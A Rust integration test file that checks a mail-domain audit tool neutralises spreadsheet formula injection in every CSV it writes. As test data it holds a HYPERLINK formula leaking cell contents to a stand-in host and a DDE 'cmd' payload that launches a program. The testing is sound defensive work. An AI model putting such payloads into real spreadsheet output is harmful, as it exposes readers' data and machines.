//! Outputs that cannot hurt their reader or destroy data (issue 14, SPEC §6), through the
//! built binary: spreadsheet-safe CSV cells in every CSV the tool writes, read back raw when
//! a pairs file is given as input again.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_repudiate"))
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn ok(o: Output) -> Output {
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    o
}

/// Every cell of a CSV text, parsed as CSV.
fn cells(text: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text);
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Asserts that no cell of `text` would be a formula, and that `text` has `needle` as a
/// cell (so the hostile value is really there, neutralised).
fn assert_safe(what: &str, text: &[u8], needle: &str) {
    let cells = cells(text);
    let formula = cells
        .iter()
        .find(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']));
    assert_eq!(formula, None, "{what}: {}", String::from_utf8_lossy(text));
    assert!(
        cells.iter().any(|c| c == needle),
        "{what} lacks {needle:?}: {}",
        String::from_utf8_lossy(text)
    );
}

const HYPERLINK: &str = "=hyperlink(\"http://evil.example/leak?\"&a1)";

#[test]
fn formula_cells_are_neutralised_everywhere_and_read_back_raw() {
    let tmp = tempfile::tempdir().unwrap();
    let mbox = fixtures().join("golden/csv-injection/hostile.mbox");
    let zone = fixtures().join("demo/what-if.zone");
    let scan = tmp.path().join("scan.csv");
    ok(bin()
        .args(["scan", "-q", "-o"])
        .arg(&scan)
        .arg(&mbox)
        .output()
        .unwrap());
    let scan_text = fs::read(&scan).unwrap();
    assert_safe("scan", &scan_text, &format!("'{HYPERLINK}"));

    let audit = |input: &Path, summary: &Path| {
        ok(bin()
            .args(["audit", "-q", "--offline", "--zone"])
            .arg(&zone)
            .arg("--summary")
            .arg(summary)
            .arg(input)
            .output()
            .unwrap())
    };
    let (direct_summary, merged_summary) = (tmp.path().join("d1.csv"), tmp.path().join("d2.csv"));
    let direct = audit(&mbox, &direct_summary);
    assert_safe("audit", &direct.stdout, "'-2+3");
    let summary = fs::read(&direct_summary).unwrap();
    assert_safe("--summary", &summary, "'+cmd|'/c calc'!a0");
    // The scan file as input: its neutralised cells are read back as the raw domains, so the
    // audit is the same as the audit of the mailbox itself.
    let merged = audit(&scan, &merged_summary);
    assert_eq!(
        String::from_utf8_lossy(&merged.stdout),
        String::from_utf8_lossy(&direct.stdout)
    );
    assert_eq!(fs::read(&merged_summary).unwrap(), summary);

    let check = ok(bin()
        .args(["check", "x@-1+2", "192.0.2.10", "--offline", "--format", "csv"])
        .output()
        .unwrap());
    assert_safe("check --format csv", &check.stdout, "'-1+2");
}
